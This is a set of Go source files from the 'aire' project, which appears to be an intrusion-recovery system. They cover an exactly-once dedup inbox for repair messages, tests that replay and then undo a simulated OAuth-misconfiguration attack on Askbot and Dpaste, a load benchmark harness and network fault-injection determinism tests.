	"aire/internal/obs"
	"aire/internal/warp"
	"aire/internal/wire"
)

// This file is the receive side of the exactly-once repair session layer
// (internal/deliver): every incoming repair-plane carrier that names its
// delivery (wire.HdrDeliveryID et al.) runs through the controller's dedup
// inbox before the repair handlers touch the log. Duplicates are
// re-acknowledged without re-applying — a re-delivered create returns the
// originally minted request ID instead of minting a second synthetic
// request — and superseded generations are acknowledged and discarded so a
// delayed copy of old repair content cannot regress the service.

// deliveryGate carries one admitted delivery's identity through a repair
// handler. After the repair is applied, exactly one of commit or rollback
// must run; the zero value (inactive) makes both no-ops, so ungated
// legacy deliveries flow through the same code path.
type deliveryGate struct {
	c      *Controller
	active bool
	origin string
	id     string
	gen    uint64
	// once records the delivery's once-only classification (creates), so a
	// WAL replay of the gate's outcome re-reserves it identically.
	once bool
}

// gateDelivery classifies an arriving repair-plane carrier against the
// dedup inbox. A non-nil response means the delivery was already handled
// (duplicate or stale) and that acknowledgment should be returned verbatim;
// otherwise the returned gate must be committed or rolled back once the
// repair handler finishes. Carriers without delivery identity — legacy
// senders, locally issued calls — are never gated.
func (c *Controller) gateDelivery(from string, req wire.Request) (deliveryGate, *wire.Response) {
	if c.Cfg.DisableDedupInbox {
		return deliveryGate{}, nil
	}
	id := req.Header[wire.HdrDeliveryID]
	if id == "" {
		return deliveryGate{}, nil
	}
	// Prefer the transport-authenticated caller as the dedup scope; the
	// Aire-Origin header covers transports that do not authenticate the
	// caller. Scoping by authenticated identity keeps one peer from
	// poisoning another peer's dedup memory with spoofed delivery IDs.
	origin := from
	if origin == "" {
		origin = req.Header[wire.HdrOrigin]
	}
	if origin == "" {
		return deliveryGate{}, nil
	}
	var gen uint64
	if s := req.Header[wire.HdrGeneration]; s != "" {
		gen, _ = strconv.ParseUint(s, 10, 64)
	}
	// Creates are once-only per delivery: the synthetic request is minted
	// exactly once, and no generation bump (e.g. Retry with refreshed
	// credentials) can supersede a mint that already happened.
	once := warp.OutKind(req.Header[wire.HdrRepair]) == warp.OutCreate
	switch d, outcome := c.dedup.Begin(origin, id, gen, once); d {
	case deliver.Duplicate:
		c.smu.Lock()
		c.stats.DupDeliveries++
		c.smu.Unlock()
		c.met.inboxDup.Inc()
		c.spanInboxVerdict(req, id, "duplicate")
		c.emit(EvDupDelivery, id, "duplicate delivery from %s re-acknowledged (gen %d)", origin, gen)
		resp := wire.NewResponse(200, "aire: duplicate delivery acknowledged")
		if outcome != "" {
			resp.Header[wire.HdrRequestID] = outcome
		}
		return deliveryGate{}, &resp
	case deliver.Stale:
		c.smu.Lock()
		c.stats.StaleDeliveries++
		c.smu.Unlock()
		c.met.inboxStale.Inc()
		c.spanInboxVerdict(req, id, "stale")
		c.emit(EvStaleDelivery, id, "superseded generation %d from %s acknowledged and discarded", gen, origin)
		resp := wire.NewResponse(200, "aire: stale generation discarded")
		return deliveryGate{}, &resp
	case deliver.InFlight:
		// Another copy of this delivery is mid-apply. Acknowledging it as
		// a duplicate would let the sender dequeue a repair whose only
		// apply may yet fail; answer retryably (503 → peer-level backoff)
		// so the sender tries again once the outcome is known.
		c.met.inboxBusy.Inc()
		c.spanInboxVerdict(req, id, "in-flight")
		resp := wire.NewResponse(503, "aire: delivery in progress, retry")
		return deliveryGate{}, &resp
	case deliver.Forgotten:
		// The delivery predates the inbox's GC horizon: whether it was
		// ever applied is unknowable, so refuse it the way the repair log
		// refuses its own pre-horizon repairs — the sender drops the
		// message and notifies its administrator.
		c.met.inboxGone.Inc()
		c.spanInboxVerdict(req, id, "forgotten")
		resp := wire.NewResponse(410, "aire: delivery predates the dedup horizon; repair permanently unavailable")
		return deliveryGate{}, &resp
	}
	c.met.inboxApply.Inc()
	c.spanInboxVerdict(req, id, "apply")
	return deliveryGate{c: c, active: true, origin: origin, id: id, gen: gen, once: once}, nil
}

// spanInboxVerdict records one inbox-classification span, correlated to
// the wave the carrier rode in with. No-op with obs disabled.
func (c *Controller) spanInboxVerdict(req wire.Request, id, verdict string) {
	if c.met.reg == nil {
		return
	}
	wave := req.Header[wire.HdrTraceID]
	hop := 0
	if wave != "" {
		hop, _ = strconv.Atoi(req.Header[wire.HdrTraceHop])
	}
	now := c.now().UnixNano()
	c.met.ring.Record(obs.Span{
		Wave: wave, Hop: hop, Service: c.Svc.Name,
		Kind: obs.SpanInbox, Subject: verdict, Peer: id,
		StartNS: now, EndNS: now,
	})
}

// commit records the applied delivery's outcome (for creates, the minted
// request ID a future duplicate is re-acknowledged with). The entry is
// stamped with the service's logical clock so Controller.GC ages it with
// the repair log horizon.
func (g deliveryGate) commit(outcome string) { g.commitEmit(outcome, false) }

// commitEmit is commit with control over WAL placement: join puts the
// in-commit op inside the open commit batch (ProcessIncoming, which holds
// Svc.Mu with a batch open); standalone commits append their own entry.
func (g deliveryGate) commitEmit(outcome string, join bool) {
	if !g.active {
		return
	}
	ts := g.c.Svc.Clock.Now()
	g.c.dedup.Commit(g.origin, g.id, g.gen, outcome, ts)
	// Receive-side progress: the harness's widened quiesce metric counts
	// committed inbox outcomes, so fault classes that apply repairs
	// without producing local delivery outcomes still register progress.
	g.c.smu.Lock()
	g.c.stats.InboxCommits++
	g.c.smu.Unlock()
	g.c.met.inboxCommits.Inc()
	if g.c.walAttached() {
		g.c.walEmit("inbox", mustOp("in-commit", inboxOp{
			Origin: g.origin, ID: g.id, Gen: g.gen, Once: g.once, Outcome: outcome, TS: ts,
		}), join)
	}
}

// rollback releases the reservation of a delivery whose apply failed, so a
// later retry of the same delivery is classified Apply again.
func (g deliveryGate) rollback() { g.rollbackEmit(false) }

func (g deliveryGate) rollbackEmit(join bool) {
	if !g.active {
		return
	}
	g.c.dedup.Rollback(g.origin, g.id, g.gen)
	if g.c.walAttached() {
		g.c.walEmit("inbox", mustOp("in-rollback", inboxOp{
			Origin: g.origin, ID: g.id, Gen: g.gen, Once: g.once,
		}), join)
	}
}

// ExportInbox returns the dedup inbox state for persistence: restoring it
// alongside the repair log keeps the exactly-once guarantee across
// crash-restart (a redelivery the crashed incarnation already applied is
// still re-acknowledged, not re-applied).
func (c *Controller) ExportInbox() []deliver.OriginDump { return c.dedup.Dump() }

// ImportInbox restores a persisted dedup inbox.
func (c *Controller) ImportInbox(dump []deliver.OriginDump) { c.dedup.Restore(dump) }

// InboxLenDedup reports how many delivery entries the dedup inbox holds
// (the incoming-action queue has InboxLen).
func (c *Controller) InboxLenDedup() int { return c.dedup.Len() }
