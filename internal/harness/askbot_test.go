package harness

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/warp"
	"aire/internal/wire"
)

// TestAskbotAttack reproduces the paper's headline experiment (§7.1,
// Figure 4): recovery from an OAuth-provider misconfiguration that let an
// attacker sign up to Askbot as a victim and spread a malicious snippet to
// Dpaste.
func TestAskbotAttack(t *testing.T) {
	s, err := NewAskbotScenario(9, core.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	if err := s.RunLegitTraffic(9, 2); err != nil {
		t.Fatal(err)
	}

	// Pre-repair sanity: the attack is visible everywhere.
	list := s.TB.Call("askbot", wire.NewRequest("GET", "/questions"))
	if !strings.Contains(string(list.Body), "bitcoin") {
		t.Fatal("attack question not visible before repair")
	}
	snip := s.TB.Call("dpaste", wire.NewRequest("GET", "/snippet").WithForm("id", s.AttackPasteID))
	if !snip.OK() {
		t.Fatal("attack snippet not on dpaste before repair")
	}

	if err := s.Repair(); err != nil {
		t.Fatal(err)
	}
	if problems := s.Verify(); len(problems) > 0 {
		t.Fatalf("post-repair problems:\n%s", strings.Join(problems, "\n"))
	}

	// The attacker's registration re-executed and failed, so the fake
	// victim signup is undone on Askbot.
	if resp := s.TB.Call("askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", s.AttackerSession, "title", "again?")); resp.OK() {
		t.Fatal("attacker session should be dead after repair")
	}
	// The daily email was compensated: the administrator learned the
	// corrected contents.
	var comp bool
	for _, n := range s.Askbot.Notifications() {
		if n.Kind == string(warp.NoticeCompensation) && strings.Contains(n.Detail, "daily summary") {
			comp = true
			if strings.Contains(n.Detail, "bitcoin") {
				t.Fatal("compensated email still contains attack content")
			}
		}
	}
	if !comp {
		t.Fatalf("no compensation for the daily email: %+v", s.Askbot.Notifications())
	}
	// Legitimate users can keep working.
	sess := s.LegitSessions["user1"]
	if resp := s.TB.Call("askbot", wire.NewRequest("POST", "/ask").WithForm(
		"session", sess, "title", "post-repair question")); !resp.OK() {
		t.Fatalf("legitimate user blocked after repair: %s", resp.Body)
	}
}

// TestAskbotAttackRepairCounts checks the shape of Table 5: only the
// requests affected by the attack are re-executed, a small fraction of the
// total.
func TestAskbotAttackRepairCounts(t *testing.T) {
	s, err := NewAskbotScenario(10, core.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	if err := s.RunLegitTraffic(10, 5); err != nil {
		t.Fatal(err)
	}

	res, err := s.OAuth.ApplyLocal(cancelAction(s.ConfigReqID))
	if err != nil {
		t.Fatal(err)
	}
	// OAuth repairs the misconfiguration and the attacker-related
	// verify_email; legitimate authorizes/verifies are untouched.
	if res.RepairedRequests >= res.TotalRequests/2 {
		t.Fatalf("oauth repair not selective: %d/%d", res.RepairedRequests, res.TotalRequests)
	}
	if res.TotalRequests < 20 {
		t.Fatalf("oauth log suspiciously small: %d", res.TotalRequests)
	}
	s.TB.Settle(20)

	if problems := s.Verify(); len(problems) > 0 {
		t.Fatalf("post-repair problems:\n%s", strings.Join(problems, "\n"))
	}
	// Dpaste repaired exactly one request (the crosspost) out of its log.
	dp := s.Dpaste.Stats()
	if dp.RepairsRun == 0 {
		t.Fatal("dpaste never ran repair")
	}
}

// TestAskbotPartialRepairOfflineDpaste reproduces §7.2: with Dpaste
// offline, OAuth and Askbot still repair immediately (closing the
// vulnerability), and Dpaste catches up when it returns.
func TestAskbotPartialRepairOfflineDpaste(t *testing.T) {
	s, err := NewAskbotScenario(6, core.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	if err := s.RunLegitTraffic(6, 2); err != nil {
		t.Fatal(err)
	}

	s.TB.SetOffline("dpaste", true)
	if err := s.Repair(); err != nil {
		t.Fatal(err)
	}

	// OAuth and Askbot are clean.
	if _, ok := s.OAuth.Svc.Store.Get(configKey("debug_verify_all")); ok {
		t.Fatal("oauth unrepaired")
	}
	if _, ok := s.Askbot.Svc.Store.Get(questionKey(s.AttackQuestionID)); ok {
		t.Fatal("askbot unrepaired while dpaste offline")
	}
	// The vulnerability is closed immediately: a fresh exploit attempt
	// fails even though Dpaste is still down.
	if _, err := s.SignupAndLogin("attacker", "victim@example.org"); err == nil {
		t.Fatal("vulnerability still exploitable after partial repair")
	}
	// Dpaste still has the snippet; the delete waits in Askbot's queue.
	if _, ok := s.Dpaste.Svc.Store.Get(snippetKey(s.AttackPasteID)); !ok {
		t.Fatal("dpaste should still hold snippet while offline")
	}
	if s.Askbot.QueueLen() == 0 {
		t.Fatal("askbot should have a queued delete for dpaste")
	}

	s.TB.SetOffline("dpaste", false)
	s.TB.Settle(20)
	if _, ok := s.Dpaste.Svc.Store.Get(snippetKey(s.AttackPasteID)); ok {
		t.Fatal("dpaste unrepaired after coming back online")
	}
	if problems := s.Verify(); len(problems) > 0 {
		t.Fatalf("post-repair problems:\n%s", strings.Join(problems, "\n"))
	}
}

// TestAskbotPartialRepairDpasteNeverOnline reproduces the §7.2 variant in
// which Dpaste never returns: Askbot times out and notifies its
// administrator.
func TestAskbotPartialRepairDpasteNeverOnline(t *testing.T) {
	s, err := NewAskbotScenario(3, core.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RunAttack(); err != nil {
		t.Fatal(err)
	}
	s.TB.SetOffline("dpaste", true)
	if _, err := s.OAuth.ApplyLocal(cancelAction(s.ConfigReqID)); err != nil {
		t.Fatal(err)
	}
	// Keep pumping past the retry budget.
	for i := 0; i < core.DefaultConfig().MaxAttempts+2; i++ {
		s.TB.Settle(1)
	}
	var notified bool
	for _, n := range s.Askbot.Notifications() {
		if n.Kind == "unreachable" && n.Target == "dpaste" {
			notified = true
		}
	}
	if !notified {
		t.Fatalf("askbot admin not notified of unreachable dpaste: %+v", s.Askbot.Notifications())
	}
}
