package harness

import (
	"context"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"aire/internal/core"
	"aire/internal/obs"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
	"aire/internal/wire"
)

// This file is the bench5 closed-loop load harness: a mirroring hub
// service under paced mixed load over the real HTTP adapter (httptest
// sockets, the pooled HTTPCaller, the background pump with adaptive
// batching and admission control) — the deployment shape of cmd/aireserve.
//
// Two traffic classes share the hub. Mirror traffic is client-visible:
// paced POST /put requests whose handler synchronously forwards the write
// to every peer; its latency is the client's wall-clock round trip.
// Repair traffic is the asynchronous plane: every RepairEvery-th put is
// followed by a repair of that put, which cascades one delete carrier per
// peer through the hub's outgoing queue; its latency is the carrier's
// queue sojourn, read from the observability registry's span ring
// (enqueue→reconcile per carrier) — the same data /aire/debug/waves
// serves, so the bench report and the debug surface tell one story.

// LoadConfig configures one bench5 run.
type LoadConfig struct {
	// Peers is how many mirror services the hub fans writes out to.
	Peers int
	// Clients is the closed-loop client count: at most this many mirror
	// requests are in flight, and pacing degrades once they saturate.
	Clients int
	// TargetRPS is the aggregate paced arrival rate for mirror traffic.
	// Negative means unpaced: clients issue requests back-to-back for the
	// whole duration, measuring the topology's maximum closed-loop
	// throughput (the mode the shard-scaling table uses — a paced run
	// that never saturates would show every shard count at the target).
	TargetRPS int
	// Shards splits the hub into N shard services behind the key-hash
	// router (core.ShardedController), each with its own store, repair
	// log, pump, and HTTP listener — the deployment shape of the sharded
	// service. 0 or 1 = the single-controller hub.
	Shards int
	// WAL attaches a write-ahead log (own directory, own writer — one per
	// shard when sharded) to the hub, so the bench exercises the durable
	// commit path: per-shard logs have no cross-shard ordering.
	WAL bool
	// OpDelay models blocking backend work (a database round trip) inside
	// the hub's put handler, spent while the per-shard service lock is
	// held. The shard-scaling table sets it so what the table measures is
	// per-service lock serialization — the thing sharding removes — rather
	// than the host's core count.
	OpDelay time.Duration
	// Duration is how long the paced phase runs.
	Duration time.Duration
	// RepairEvery issues a repair cascade after every n-th put (0 = never).
	RepairEvery int
	// Sample is the queue-depth sampling interval.
	Sample time.Duration
	// BatchPolicy and Admission configure the pump under test.
	BatchPolicy core.BatchPolicy
	Admission   core.Admission
}

func (cfg LoadConfig) withDefaults() LoadConfig {
	if cfg.Peers <= 0 {
		cfg.Peers = 3
	}
	if cfg.Clients <= 0 {
		cfg.Clients = 8
	}
	if cfg.TargetRPS == 0 {
		cfg.TargetRPS = 300
	}
	if cfg.Shards <= 0 {
		cfg.Shards = 1
	}
	if cfg.Duration <= 0 {
		cfg.Duration = 5 * time.Second
	}
	if cfg.RepairEvery < 0 {
		cfg.RepairEvery = 0
	}
	if cfg.Sample <= 0 {
		cfg.Sample = 100 * time.Millisecond
	}
	return cfg
}

// loadHub is the slice of the controller API the bench drives on the hub;
// both core.Controller and core.ShardedController satisfy it, so the run
// loop is identical sharded or not.
type loadHub interface {
	QueueLen() int
	WaitQueueEmpty(timeout time.Duration) bool
}

// LoadClass summarizes one traffic class of a bench5 run.
type LoadClass struct {
	Name   string  `json:"class"`
	Count  int     `json:"count"`
	RPS    float64 `json:"throughput_rps"`
	P50Ms  float64 `json:"p50_ms"`
	P99Ms  float64 `json:"p99_ms"`
	P999Ms float64 `json:"p999_ms"`
	MaxMs  float64 `json:"max_ms"`
}

// DepthSample is one point of the queue-depth time series.
type DepthSample struct {
	AtMs  int64 `json:"t_ms"`
	Depth int   `json:"depth"`
}

// LoadResult is the machine-readable outcome of one bench5 run.
type LoadResult struct {
	Peers       int           `json:"peers"`
	Clients     int           `json:"clients"`
	Shards      int           `json:"shards"`
	WAL         bool          `json:"wal,omitempty"`
	OpDelayMs   float64       `json:"op_delay_ms,omitempty"`
	TargetRPS   int           `json:"target_rps"`
	DurationSec float64       `json:"duration_sec"`
	RepairEvery int           `json:"repair_every"`
	Errors      int           `json:"errors"`
	Classes     []LoadClass   `json:"classes"`
	QueueDepth  []DepthSample `json:"queue_depth"`
	// Obs is the final metrics-registry snapshot: delivery latency,
	// inbox verdict counts, and queue counters for every service in the
	// topology.
	Obs *obs.Snapshot `json:"obs,omitempty"`
	// Waves is the /aire/debug/waves document reconstructed from the
	// run's span ring — the dump the CI artifact job uploads.
	Waves *obs.WavesDump `json:"waves,omitempty"`
}

// repairSojournsUS extracts per-carrier queue sojourns (microseconds)
// from the span ring: the enqueue→reconcile window per (wave, delivery,
// hop). This replaces the pre-obs ad-hoc queue-event correlation with
// the same spans the debug surfaces serve.
func repairSojournsUS(spans []obs.Span) []int64 {
	type key struct {
		wave, subject string
		hop           int
	}
	starts := map[key]int64{}
	ends := map[key]int64{}
	for _, s := range spans {
		if s.Wave == "" || s.Subject == "" {
			continue
		}
		k := key{s.Wave, s.Subject, s.Hop}
		switch s.Kind {
		case obs.SpanEnqueue:
			if at, ok := starts[k]; !ok || s.StartNS < at {
				starts[k] = s.StartNS
			}
		case obs.SpanReconcile:
			if at, ok := ends[k]; !ok || s.EndNS > at {
				ends[k] = s.EndNS
			}
		}
	}
	var us []int64
	for k, st := range starts {
		if end, ok := ends[k]; ok && end >= st {
			us = append(us, (end-st)/1000)
		}
	}
	return us
}

func classOf(name string, us []int64, elapsed time.Duration) LoadClass {
	ms := func(v int64) float64 { return float64(v) / 1000 }
	return LoadClass{
		Name:   name,
		Count:  len(us),
		RPS:    float64(len(us)) / elapsed.Seconds(),
		P50Ms:  ms(percentile(us, 0.50)),
		P99Ms:  ms(percentile(us, 0.99)),
		P999Ms: ms(percentile(us, 0.999)),
		MaxMs:  ms(percentile(us, 1.0)),
	}
}

// RunLoad executes one closed-loop bench5 run and returns its measurements.
func RunLoad(cfg LoadConfig) (*LoadResult, error) {
	cfg = cfg.withDefaults()

	// Topology: hub mirroring to cfg.Peers peer services, all speaking
	// real HTTP through one pooled caller.
	// One registry spans the whole topology (per-service metric prefixes
	// keep the series apart); the ring is sized generously so a long run's
	// repair spans aren't overwritten before the report reads them.
	reg := obs.New(1 << 16)
	caller := &transport.HTTPCaller{BaseURLs: map[string]string{}, Obs: reg}
	ccfg := core.DefaultConfig()
	ccfg.BatchPolicy = cfg.BatchPolicy
	ccfg.Admission = cfg.Admission
	ccfg.Obs = reg
	var peers []string
	for i := 0; i < cfg.Peers; i++ {
		peers = append(peers, fmt.Sprintf("peer%d", i))
	}
	// The hub: either one controller, or cfg.Shards shard controllers
	// behind the key-hash router. Each shard is a full service — own
	// store, log, pump, listener — and the router is what the clients'
	// "hub" base URL points at.
	var (
		hub       loadHub
		router    *core.ShardedController
		ctrls     []*core.Controller
		hubShards []*core.Controller
	)
	if cfg.Shards > 1 {
		topo := core.NewShardTopology()
		topo.SetShards("hub", cfg.Shards)
		ccfg.Topology = topo
		for i := 0; i < cfg.Shards; i++ {
			s := core.NewController(&KVApp{ServiceName: topo.ShardName("hub", i), Mirrors: peers, PutDelay: cfg.OpDelay}, caller, ccfg)
			hubShards = append(hubShards, s)
			ctrls = append(ctrls, s)
		}
		router = core.NewShardedController("hub", topo, hubShards)
		hub = router
	} else {
		c := core.NewController(&KVApp{ServiceName: "hub", Mirrors: peers, PutDelay: cfg.OpDelay}, caller, ccfg)
		hub = c
		ctrls = append(ctrls, c)
	}
	pcfg := core.DefaultConfig()
	pcfg.Obs = reg
	for _, p := range peers {
		ctrls = append(ctrls, core.NewController(&KVApp{ServiceName: p}, caller, pcfg))
	}
	if cfg.WAL {
		// One WAL per hub controller (so one per shard when sharded),
		// recovered the way a real startup would — in parallel, each log
		// independent.
		walDir, err := os.MkdirTemp("", "airebench-wal-*")
		if err != nil {
			return nil, err
		}
		defer os.RemoveAll(walDir)
		walCtrls := hubShards
		if len(walCtrls) == 0 {
			walCtrls = ctrls[:1]
		}
		dirs := make([]string, len(walCtrls))
		for i := range walCtrls {
			dirs[i] = filepath.Join(walDir, fmt.Sprintf("shard%d", i))
		}
		writers, err := persist.RecoverShards(walCtrls, dirs, wal.Options{Policy: wal.FsyncEveryCommit})
		if err != nil {
			return nil, err
		}
		defer func() {
			for _, w := range writers {
				w.Close()
			}
		}()
	}
	var servers []*httptest.Server
	defer func() {
		for _, s := range servers {
			s.Close()
		}
	}()
	for _, c := range ctrls {
		srv := httptest.NewServer(transport.NewHTTPHandler(c))
		servers = append(servers, srv)
		caller.BaseURLs[c.Svc.Name] = srv.URL
	}
	if router != nil {
		// The router gets its own listener under the base name: clients
		// talk to "hub", the router routes each request to the owning
		// shard in-process.
		srv := httptest.NewServer(transport.NewHTTPHandler(router))
		servers = append(servers, srv)
		caller.BaseURLs["hub"] = srv.URL
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	for _, c := range ctrls {
		if err := c.StartPump(ctx); err != nil {
			return nil, err
		}
	}
	defer func() {
		for _, c := range ctrls {
			c.StopPump()
		}
	}()

	res := &LoadResult{
		Peers: cfg.Peers, Clients: cfg.Clients, TargetRPS: cfg.TargetRPS,
		Shards: cfg.Shards, WAL: cfg.WAL, OpDelayMs: float64(cfg.OpDelay) / float64(time.Millisecond),
		RepairEvery: cfg.RepairEvery,
	}

	// Queue-depth sampler.
	samplerDone := make(chan struct{})
	sampleCtx, stopSampler := context.WithCancel(ctx)
	defer stopSampler()
	start := time.Now()
	go func() {
		defer close(samplerDone)
		tick := time.NewTicker(cfg.Sample)
		defer tick.Stop()
		for {
			select {
			case <-sampleCtx.Done():
				return
			case <-tick.C:
				res.QueueDepth = append(res.QueueDepth, DepthSample{
					AtMs: time.Since(start).Milliseconds(), Depth: hub.QueueLen(),
				})
			}
		}
	}()

	// Closed-loop clients: a pacer dispatches op slots at the target
	// rate; when every client is busy the send blocks and the achieved
	// rate degrades — back-pressure, not an unbounded backlog.
	var (
		mirrorMu sync.Mutex
		mirror   []int64 // microseconds
		opSeq    atomic.Int64
		errs     atomic.Int64
		wg       sync.WaitGroup
	)
	ops := make(chan struct{})
	for w := 0; w < cfg.Clients; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range ops {
				n := opSeq.Add(1)
				key := fmt.Sprintf("k%d", n)
				t0 := time.Now()
				resp, err := caller.Call("", "hub", wire.NewRequest("POST", "/put").
					WithForm("key", key, "val", fmt.Sprintf("v%d", n)))
				lat := time.Since(t0).Microseconds()
				if err != nil || !resp.OK() {
					errs.Add(1)
					continue
				}
				mirrorMu.Lock()
				mirror = append(mirror, lat)
				mirrorMu.Unlock()
				if cfg.RepairEvery > 0 && n%int64(cfg.RepairEvery) == 0 {
					// Repair this put: the hub deletes it locally and
					// cascades one delete carrier per peer (control-plane
					// call, not a measured mirror op).
					rep := wire.NewRequest("POST", "/aire/repair").WithHeader(
						wire.HdrRepair, "delete",
						wire.HdrRequestID, resp.Header[wire.HdrRequestID],
					)
					if rresp, rerr := caller.Call("", "hub", rep); rerr != nil || !rresp.OK() {
						errs.Add(1)
					}
				}
			}
		}()
	}

	deadline := time.After(cfg.Duration)
	if cfg.TargetRPS < 0 {
		// Unpaced: keep every client saturated until the deadline; the
		// achieved rate is the topology's maximum closed-loop throughput.
	unpaced:
		for {
			select {
			case <-deadline:
				break unpaced
			case ops <- struct{}{}:
			}
		}
	} else {
		interval := time.Second / time.Duration(cfg.TargetRPS)
		pace := time.NewTicker(interval)
	pacing:
		for {
			select {
			case <-deadline:
				break pacing
			case <-pace.C:
				ops <- struct{}{}
			}
		}
		pace.Stop()
	}
	close(ops)
	wg.Wait()
	paced := time.Since(start)

	// Let the repair plane drain before closing the books.
	if !hub.WaitQueueEmpty(30 * time.Second) {
		return nil, fmt.Errorf("bench5: %d repair messages still queued after 30s", hub.QueueLen())
	}
	stopSampler()
	<-samplerDone

	res.DurationSec = paced.Seconds()
	res.Errors = int(errs.Load())
	repair := repairSojournsUS(reg.Ring().Spans())
	res.Classes = []LoadClass{
		classOf("mirror", mirror, paced),
		classOf("repair", repair, paced),
	}
	snap := reg.Snapshot()
	res.Obs = &snap
	dump := reg.Dump(false)
	res.Waves = &dump
	return res, nil
}

// FormatLoad renders a LoadResult as the human-readable bench5 table.
func FormatLoad(res *LoadResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-8s %8s %12s %10s %10s %10s %10s\n",
		"class", "count", "rps", "p50", "p99", "p999", "max")
	for _, c := range res.Classes {
		fmt.Fprintf(&b, "%-8s %8d %12.1f %8.2fms %8.2fms %8.2fms %8.2fms\n",
			c.Name, c.Count, c.RPS, c.P50Ms, c.P99Ms, c.P999Ms, c.MaxMs)
	}
	maxDepth := 0
	for _, d := range res.QueueDepth {
		if d.Depth > maxDepth {
			maxDepth = d.Depth
		}
	}
	fmt.Fprintf(&b, "errors=%d peak-queue-depth=%d samples=%d\n",
		res.Errors, maxDepth, len(res.QueueDepth))
	// Registry-sourced section: what /aire/debug/metrics and
	// /aire/debug/waves would have served at the end of the run.
	if res.Obs != nil {
		h := res.Obs.Histograms["core.hub.deliver_ns"]
		ms := func(ns int64) float64 { return float64(ns) / 1e6 }
		fmt.Fprintf(&b, "registry: hub deliver attempts=%d p50=%.2fms p99=%.2fms max=%.2fms; http calls=%d errors=%d\n",
			h.Count, ms(h.QuantileNS(0.50)), ms(h.QuantileNS(0.99)), ms(h.MaxNS),
			res.Obs.Counters["transport.http.calls"], res.Obs.Counters["transport.http.errors"])
	}
	if res.Waves != nil {
		maxHop, paired := 0, 0
		for _, w := range res.Waves.Waves {
			if w.MaxHop > maxHop {
				maxHop = w.MaxHop
			}
			for _, h := range w.Hops {
				paired += h.Msgs
			}
		}
		fmt.Fprintf(&b, "waves=%d max-hop=%d carriers-paired=%d spans=%d (buffered %d)\n",
			len(res.Waves.Waves), maxHop, paired, res.Waves.TotalSpans, res.Waves.Buffered)
	}
	return b.String()
}
