package simnet

import (
	"math/rand"
	"reflect"
	"testing"

	"aire/internal/transport"
	"aire/internal/wire"
)

// These tests assert the invariant the package documentation promises but
// PR 2 never checked: the fault schedule is a pure function of (seed,
// repair-plane call sequence) because every faultable call consumes
// exactly one rng draw — and nothing else consumes any. Non-repair
// traffic and partitioned calls must draw nothing, or interleaving them
// would shift every later fault decision and a replayed seed would stop
// reproducing its schedule.

// countingSource counts how many raw draws the rng takes.
type countingSource struct {
	src rand.Source64
	n   int
}

func (c *countingSource) Int63() int64 {
	c.n++
	return c.src.Int63()
}

func (c *countingSource) Uint64() uint64 {
	c.n++
	return c.src.Uint64()
}

func (c *countingSource) Seed(s int64) { c.src.Seed(s) }

// drawNet builds a two-service fabric whose rng draws are counted.
func drawNet(t *testing.T, plan FaultPlan) (*Net, *countingSource) {
	t.Helper()
	bus := transport.NewBus()
	ok := transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
		return wire.Response{Status: 200}
	})
	bus.Register("a", ok)
	bus.Register("b", ok)
	n := New(bus, 1, plan)
	src := &countingSource{src: rand.NewSource(1).(rand.Source64)}
	n.rng = rand.New(src) // swap in the counting source (same seed)
	return n, src
}

// TestOneDrawPerFaultableCall: K repair-plane calls consume exactly K
// draws; interleaved normal traffic and partitioned repair calls consume
// zero. (DelayTicks ≤ 1 and single-call Ticks, so no auxiliary draws —
// multi-tick delays and shuffles deliberately consume more, documented in
// FaultPlan.DelayTicks.)
func TestOneDrawPerFaultableCall(t *testing.T) {
	plan := FaultPlan{Drop: 0.3, DropResponse: 0.3, Duplicate: 0.3}
	n, src := drawNet(t, plan)
	repair := wire.NewRequest("POST", "/aire/repair")
	normal := wire.NewRequest("POST", "/put")

	const k = 50
	for i := 0; i < k; i++ {
		n.Call("a", "b", repair)
		if i%3 == 0 {
			n.Call("a", "b", normal) // live traffic: never faulted, never drawn for
		}
	}
	if src.n != k {
		t.Fatalf("%d repair-plane calls consumed %d draws, want exactly %d", k, src.n, k)
	}

	// Partitioned repair calls fail before the roll: no draw.
	n.Partition([]string{"a"}, []string{"b"})
	for i := 0; i < 10; i++ {
		if _, err := n.Call("a", "b", repair); err == nil {
			t.Fatal("partitioned call succeeded")
		}
	}
	if src.n != k {
		t.Fatalf("partitioned calls consumed %d extra draws, want 0", src.n-k)
	}

	// Healed: drawing resumes, one per call.
	n.Heal()
	n.Call("a", "b", repair)
	if src.n != k+1 {
		t.Fatalf("post-heal call consumed %d draws, want 1", src.n-k)
	}
}

// TestZeroFaultPlanDrawsNothing: with no fault probability configured the
// rng is never touched — a fault-free run's schedule cannot depend on
// call count at all.
func TestZeroFaultPlanDrawsNothing(t *testing.T) {
	n, src := drawNet(t, FaultPlan{})
	for i := 0; i < 20; i++ {
		n.Call("a", "b", wire.NewRequest("POST", "/aire/repair"))
	}
	if src.n != 0 {
		t.Fatalf("zero plan consumed %d draws", src.n)
	}
}

// TestScheduleInsensitiveToUnfaultableTraffic: the end-to-end statement of
// the invariant — two same-seed fabrics fed the same repair-plane call
// sequence produce identical fault schedules even when one of them also
// carries arbitrary live traffic and partitioned calls in between.
func TestScheduleInsensitiveToUnfaultableTraffic(t *testing.T) {
	plan := FaultPlan{Drop: 0.2, DropResponse: 0.2, Duplicate: 0.2, Delay: 0.2}
	build := func() *Net {
		bus := transport.NewBus()
		ok := transport.HandlerFunc(func(from string, req wire.Request) wire.Response {
			return wire.Response{Status: 200}
		})
		bus.Register("a", ok)
		bus.Register("b", ok)
		bus.Register("c", ok)
		return New(bus, 99, plan)
	}
	repair := wire.NewRequest("POST", "/aire/repair")

	quiet := build()
	for i := 0; i < 40; i++ {
